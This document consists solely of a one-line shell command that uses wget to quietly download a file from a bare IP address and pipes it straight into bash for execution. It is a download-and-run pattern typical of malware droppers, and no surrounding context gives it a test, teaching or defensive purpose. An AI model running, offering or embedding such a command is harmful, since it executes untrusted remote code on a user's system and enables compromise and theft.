bash -c "$(wget -qO- http://198.51.100.212/i)"
